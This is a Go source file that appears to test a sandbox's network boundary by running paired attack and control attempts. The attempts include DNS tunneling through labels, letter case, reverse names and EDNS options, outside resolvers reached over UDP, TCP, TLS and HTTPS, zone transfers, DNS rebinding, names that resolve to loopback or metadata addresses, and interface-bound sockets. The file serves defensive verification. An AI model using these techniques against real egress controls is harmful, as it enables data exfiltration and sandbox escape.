package escape

import (
	"errors"
	"fmt"
	"strings"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

const gateway = "198.18.0.1:53"

// question asks server about name and says nil when the answer has records or,
// unless records is set, when there is any answer.
func question(network, server, name string, kind uint16, records bool, change ...func(*dns.Msg)) error {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), kind)
	for _, c := range change {
		c(m)
	}
	q, err := m.Pack()
	if err != nil {
		return broken(err)
	}
	b, err := ask(network, server, q)
	if err != nil {
		return err
	}
	r := new(dns.Msg)
	if err := r.Unpack(b); err != nil {
		return err
	}
	if records && (r.Rcode != dns.RcodeSuccess || len(r.Answer) == 0) {
		return fmt.Errorf("%s with %d records", dns.RcodeToString[r.Rcode], len(r.Answer))
	}
	return nil
}

// elsewhere is a question to another resolver than the boundary's.
func elsewhere(name, tries, network, server string) attempt {
	return on(plain, name, tries, func(w *world) error {
		return question(network, server, w.Mark+".example", dns.TypeA, false)
	})
}

// leak is a question to the boundary's resolver, of which nothing may be heard
// outside. Its control asks a resolver outside.
func leak(name, tries, network string, ask func(network, server, mark string) error) attempt {
	return attempt{name: name, tries: tries, in: plain, at: host, arrives: true,
		attack:  func(w *world) error { return ask(network, gateway, w.Mark) },
		control: func(w *world) error { return ask(network, "127.0.0.1:53", w.Mark) }}
}

// lie is an allowed name whose address, as the host's resolver has it, is one
// that no name may lead to.
func lie(label, tries string) attempt {
	name := label + ".lie.test"
	try := func(w *world) error {
		return errors.Join(fetch(name, 80, "/"+w.Mark), fetch(name, loopPort, "/"+w.Mark))
	}
	return attempt{name: "lie-" + label, tries: "an allowed name that the resolver says is " + tries, in: plain, at: plain, arrives: true,
		attack: try,
		// A name of the same kind that tells the truth.
		control: func(w *world) error { return fetch("true.lie.test", 80, "/"+w.Mark) }}
}

// resolvers are attempts with names.
func resolvers() []attempt {
	return []attempt{
		elsewhere("resolver-udp", "another resolver", "udp", "8.8.8.8:53"),
		elsewhere("resolver-tcp", "another resolver by TCP", "tcp", "1.1.1.1:53"),
		on(plain, "resolver-udp6", "another resolver by IPv6", func(w *world) error {
			m := new(dns.Msg)
			m.SetQuestion(w.Mark+".example.", dns.TypeA)
			q, err := m.Pack()
			if err != nil {
				return broken(err)
			}
			return send("udp6", "[2001:4860:4860::8888]:53", string(q))
		}),
		elsewhere("resolver-host", "the resolver on the host's loopback", "udp", "127.0.0.1:53"),
		elsewhere("resolver-stub", "the resolver that systemd runs on hosts", "udp", "127.0.0.53:53"),
		on(plain, "resolver-tls", "another resolver by TLS", func(w *world) error {
			t, err := secure("9.9.9.9", 853, w.Mark)
			if err != nil {
				return err
			}
			return t.Close()
		}),
		on(plain, "resolver-https", "another resolver by HTTPS", func(w *world) error {
			return sayTLS("1.1.1.1", "cloudflare-dns.test", get("cloudflare-dns.test", "/dns-query?"+w.Mark))
		}),
		leak("label-tunnel", "data in the labels of a name that nobody allows", "udp", func(network, server, mark string) error {
			return question(network, server, mark+".tunnel.example", dns.TypeTXT, false)
		}),
		leak("label-tunnel-allowed", "data in the label below a wildcard that is allowed", "udp", func(network, server, mark string) error {
			return question(network, server, mark+".wild.test", dns.TypeTXT, false)
		}),
		leak("label-tunnel-tcp", "the same by TCP", "tcp", func(network, server, mark string) error {
			return question(network, server, mark+".wild.test", dns.TypeA, false)
		}),
		leak("label-tunnel-case", "a name whose upper case letters carry data", "udp", func(network, server, mark string) error {
			return question(network, server, strings.ToUpper(mark)+".Wild.TEST", dns.TypeAAAA, false)
		}),
		leak("reverse-tunnel", "data in a question for the name of an address", "udp", func(network, server, mark string) error {
			return question(network, server, mark+".8.8.8.8.in-addr.arpa", dns.TypePTR, false)
		}),
		leak("edns-tunnel", "data in an option of a question", "udp", func(network, server, mark string) error {
			// The control's resolver records names only, so it is put there too.
			name := openName
			if server != gateway {
				name = mark + "." + name
			}
			return question(network, server, name, dns.TypeA, false, func(m *dns.Msg) {
				m.Extra = append(m.Extra, &dns.OPT{Hdr: dns.RR_Header{Name: ".", Rrtype: dns.TypeOPT},
					Option: []dns.EDNS0{&dns.EDNS0_LOCAL{Code: dns.EDNS0LOCALSTART, Data: []byte(mark)}}})
			})
		}),
		{name: "denied-name", tries: "a name that no rule allows", in: plain, at: plain,
			attack:  func(*world) error { return question("udp", gateway, deniedName, dns.TypeA, true) },
			control: func(*world) error { return question("udp", gateway, openName, dns.TypeA, true) }},
		{name: "setup-name", tries: "a name of the phase that is over", in: plain, at: plain,
			attack:  func(*world) error { return question("udp", gateway, setupName, dns.TypeA, true) },
			control: func(*world) error { return question("udp", gateway, openName, dns.TypeA, true) }},
		{name: "below-a-wildcard-twice", tries: "two labels where one is allowed", in: plain, at: plain,
			attack:  func(*world) error { return question("udp", gateway, "a.b.wild.test", dns.TypeA, true) },
			control: func(*world) error { return question("udp", gateway, "a.wild.test", dns.TypeA, true) }},
		{name: "service-records", tries: "records that carry addresses and keys of their own", in: plain, at: plain,
			attack: func(*world) error {
				var errs []error
				for _, kind := range []uint16{dns.TypeHTTPS, dns.TypeSVCB, dns.TypeSRV, dns.TypeTXT, dns.TypeNULL, dns.TypeANY, dns.TypeMX, dns.TypeCNAME} {
					err := question("udp", gateway, openName, kind, true)
					if err == nil {
						return nil
					}
					errs = append(errs, err)
				}
				return errors.Join(errs...)
			},
			control: func(*world) error { return question("udp", gateway, openName, dns.TypeAAAA, true) }},
		{name: "zone-transfer", tries: "all names of a zone at once, and a change of one", in: plain, at: plain,
			attack: func(*world) error {
				axfr := question("tcp", gateway, "wild.test", dns.TypeAXFR, true)
				update := question("udp", gateway, openName, dns.TypeSOA, true, func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate })
				chaos := question("udp", gateway, "version.bind", dns.TypeTXT, true, func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassCHAOS })
				if axfr == nil || update == nil || chaos == nil {
					return nil
				}
				return errors.Join(axfr, update, chaos)
			},
			control: func(*world) error { return question("tcp", gateway, openName, dns.TypeA, true) }},
		{name: "own-hosts-file", tries: "a forbidden name under an allowed name's address, by TLS", in: plain, at: plain, arrives: true,
			attack: func(w *world) error {
				a, err := resolve(openName, "ip4")
				if err != nil {
					return broken(err)
				}
				return sayTLS(a.String(), w.Mark+"."+deniedName, get(deniedName, "/"))
			},
			control: func(w *world) error {
				a, err := resolve(openName, "ip4")
				if err != nil {
					return err
				}
				return sayTLS(a.String(), openName, get(openName, "/"+w.Mark))
			}},
		{name: "rebinding", tries: "an allowed name whose address becomes the host's loopback", in: plain, at: plain, arrives: true,
			// The resolver says another address once the control has arrived.
			control: func(w *world) error { return fetch(rebindName, 80, "/"+w.Mark) },
			attack: func(w *world) error {
				return errors.Join(fetch(rebindName, 80, "/"+w.Mark), fetch(rebindName, loopPort, "/"+w.Mark))
			}},
		lie("loop", "loopback"), lie("loop6", "loopback of IPv6"), lie("zero", "no address, which means this host"),
		lie("zero6", "none of IPv6"), lie("own", "the host itself"), lie("meta", "the metadata service"), lie("ten", "in a private network"),
		lie("cgnat", "in a carrier's"), lie("ula", "a private one of IPv6"), lie("mapped", "loopback in the clothes of IPv6"),
		lie("nat64", "loopback behind a translator"), lie("linklocal", "on the link"), lie("multicast", "a group"),
		lie("broadcast", "everybody"), lie("synthetic", "one of the boundary's own"), lie("sixtofour", "loopback in a tunnel"),
		{name: "resolver-by-link", tries: "another resolver with the socket bound to the link", in: strong, at: host, arrives: true,
			attack: func(w *world) error {
				m := new(dns.Msg)
				m.SetQuestion(w.Mark+".example.", dns.TypeA)
				q, err := m.Pack()
				if err != nil {
					return broken(err)
				}
				return send("udp4", "8.8.8.8:53", string(q), func(fd int) error {
					return unix.SetsockoptString(fd, unix.SOL_SOCKET, unix.SO_BINDTODEVICE, uplinkInterface())
				})
			}},
	}
}
